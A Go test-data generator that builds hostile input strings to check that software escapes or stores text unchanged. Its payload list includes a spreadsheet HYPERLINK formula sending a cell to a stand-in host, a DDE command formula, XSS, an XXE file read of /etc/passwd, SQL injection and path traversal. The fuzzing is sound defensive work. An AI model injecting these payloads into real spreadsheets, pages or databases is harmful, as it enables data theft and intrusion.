package generate

import "strings"

// attacks are texts that do harm where somebody forgets to escape, clean or
// measure. All are valid UTF-8.
var attacks = []string{
	`=HYPERLINK("https://boos.example/?"&A1,"klik")`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1+1)`, "\t=1+1", "\r=1+1", "＝1+1",
	`<script>alert(1)</script>`, `</w:t></w:r><w:r><w:t>`, `]]>`, `<!--`, `&amp;&lt;&#0;`, `<!ENTITY x SYSTEM "file:///etc/passwd">`,
	`'; DROP TABLE record; --`, `" OR 1=1 --`, `100%`, `a_b%c`, `\`, `"`, `'`, "`", `${HOME}`, `{{.}}`, `%s%n%d`,
	"regel\r\nnog een", "\n\n\n", "tab\tstop", "\x00nul", "\x1b[31mrood", "\b\f\v", "\x7f", "\u0085", "\u2028\u2029",
	"\u202egnirts\u202c", "\u200b\u200d\ufeff", "e\u0301\u0327", "\u00a0", "\ufffd", "\uffff", "\U0010ffff", "\U0001F469\u200d\U0001F3EB",
	"العربية", "עברית", "中文字符", "Ǆǅǆ", "ﬁ", "İıſß", "../../etc/passwd", `C:\CON`, "C:NUL", "naam.", " spatie ", "_x0041_", "_xD800_",
	`[a](javascript:alert(1))`, "#kop", "| a | b |", ";,\t", "null", "undefined", "true", "00123", "1e309", "9999-99-99", "-0", "NaN",
}

// hostile returns a text that must come out of everything as it went in, and
// be run by nothing.
func (g Generator) hostile() string {
	switch g.Rand.IntN(8) {
	case 0:
		return pick(g, attacks) + pick(g, attacks)
	case 1:
		return "De school " + pick(g, attacks) + " bewaart."
	case 2:
		return strings.Repeat(pick(g, attacks), 1+g.Rand.IntN(200))
	case 3:
		return g.runes(1 + g.Rand.IntN(30))
	}
	return pick(g, attacks)
}

// runes returns any characters at all, but for surrogates.
func (g Generator) runes(n int) string {
	b := make([]rune, n)
	for i := range b {
		r := rune(g.Rand.IntN([]int{0x80, 0x800, 0x10000, 0x110000}[g.Rand.IntN(4)]))
		if r >= 0xd800 && r < 0xe000 {
			r = '\ufffd'
		}
		b[i] = r
	}
	return string(b)
}
